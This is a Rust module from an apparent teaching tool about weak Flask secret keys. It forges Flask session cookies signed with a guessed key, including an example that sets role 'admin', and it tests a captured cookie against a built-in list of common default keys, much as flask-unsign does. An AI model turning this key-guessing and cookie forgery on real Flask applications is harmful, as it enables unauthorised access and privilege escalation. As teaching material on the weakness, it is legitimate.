//! The attacker's side of the session signature, as the dev tools offer it (lesson "A weak
//! secret key"): sign a session of one's own with a guessed key, and test a captured session
//! cookie against a short list of keys people leave in their code — what tools like
//! flask-unsign do offline, with no request to the server.
//!
//! The bytes are the ones Flask writes ([`crate::flask::signing`]); the JSON text is the one
//! Flask's session serializer writes for a plain JSON object: compact, keys sorted, every
//! non-ASCII character escaped. Tests compare both with itsdangerous (`tests/lessons/gen_forge.py`).

use crate::flask::signing::{SigningKey, dumps, loads};

/// Keys people leave in Flask apps: tutorial and template defaults, placeholders, the obvious
/// words. Short on purpose: the lesson shows the idea, not a cracking tool.
pub const COMMON_KEYS: &[&str] = &[
    "secret",
    "secret-key",
    "secret_key",
    "secretkey",
    "mysecret",
    "supersecret",
    "changeme",
    "change-me",
    "change_me",
    "dev",
    "development",
    "test",
    "testing",
    "password",
    "key",
    "flask",
    "default",
    "s3cr3t",
    "your-secret-key",
    "123456",
];

/// Why a session could not be signed, in the learner's words.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ForgeError {
    /// The text is not JSON (the parser's message, with line and column).
    NotJson(String),
    /// JSON, but not an object (`{...}`): a Flask session is a dict.
    NotAnObject,
}

impl std::fmt::Display for ForgeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ForgeError::NotJson(why) => write!(f, "the session is not valid JSON ({why})"),
            ForgeError::NotAnObject => write!(
                f,
                "a session is a JSON object, like {{\"role\": \"admin\"}}"
            ),
        }
    }
}

/// The JSON text Flask's session serializer writes for the object `text` (the learner may type
/// spaces, any key order, any characters).
///
/// ```
/// use session_playground::flask::forge::session_json;
/// assert_eq!(session_json(r#"{ "user": "mallory", "role": "admin" }"#).unwrap(), r#"{"role":"admin","user":"mallory"}"#);
/// assert_eq!(session_json(r#"{"name": "Zoë 🍪"}"#).unwrap(), r#"{"name":"Zo\u00eb \ud83c\udf6a"}"#);
/// assert!(session_json("[1]").is_err() && session_json("{role: admin}").is_err());
/// ```
pub fn session_json(text: &str) -> Result<String, ForgeError> {
    let value: serde_json::Value =
        serde_json::from_str(text).map_err(|e| ForgeError::NotJson(e.to_string()))?;
    if !value.is_object() {
        return Err(ForgeError::NotAnObject);
    }
    // serde_json's map is sorted; Python's json escapes every non-ASCII character as UTF-16.
    let compact = serde_json::to_string(&value).map_err(|e| ForgeError::NotJson(e.to_string()))?;
    let mut out = String::with_capacity(compact.len());
    for c in compact.chars() {
        if c.is_ascii() {
            out.push(c);
        } else {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{unit:04x}"));
            }
        }
    }
    Ok(out)
}

/// The session cookie value Flask would write for the object `text` signed with `secret_key`
/// at `now` (Unix seconds).
pub fn sign_session(secret_key: &str, text: &str, now: i64) -> Result<String, ForgeError> {
    let json = session_json(text)?;
    Ok(dumps(
        &SigningKey::for_session(secret_key),
        &json,
        now.max(0) as u64,
    ))
}

/// What testing a cookie against a list of keys found.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct KeyGuess {
    /// The key whose signature matches, if one does.
    pub found: Option<String>,
    /// How many keys were tried (up to and including the one found).
    pub tried: usize,
}

/// Tries each key of `candidates` on the session cookie `cookie`: the first whose signature
/// matches (its age does not matter: the key is what is sought).
///
/// ```
/// use session_playground::flask::forge::{COMMON_KEYS, guess_key, sign_session};
/// let cookie = sign_session("dev", r#"{"role":"visitor"}"#, 1767225600).unwrap();
/// let guess = guess_key(&cookie, COMMON_KEYS);
/// assert_eq!(guess.found.as_deref(), Some("dev"));
/// let strong = sign_session("4f9c1e0b7d2a", r#"{"role":"visitor"}"#, 1767225600).unwrap();
/// assert_eq!(guess_key(&strong, COMMON_KEYS).found, None);
/// ```
pub fn guess_key<S: AsRef<str>>(cookie: &str, candidates: &[S]) -> KeyGuess {
    for (index, key) in candidates.iter().enumerate() {
        let key = key.as_ref();
        if loads(&SigningKey::for_session(key), cookie, 0, None).is_ok() {
            return KeyGuess {
                found: Some(key.to_string()),
                tried: index + 1,
            };
        }
    }
    KeyGuess {
        found: None,
        tried: candidates.len(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bad_payload_says_what_is_wrong() {
        let error = sign_session("dev", "{\"role\": admin}", 0).unwrap_err();
        assert!(
            error
                .to_string()
                .starts_with("the session is not valid JSON (expected value at line 1"),
            "{error}"
        );
        assert_eq!(
            sign_session("dev", "\"admin\"", 0).unwrap_err(),
            ForgeError::NotAnObject
        );
    }

    #[test]
    fn a_cookie_that_is_not_signed_matches_no_key() {
        assert_eq!(
            guess_key("not-a-cookie", COMMON_KEYS),
            KeyGuess {
                found: None,
                tried: COMMON_KEYS.len()
            }
        );
        assert_eq!(guess_key::<&str>("", &[]).tried, 0);
    }
}
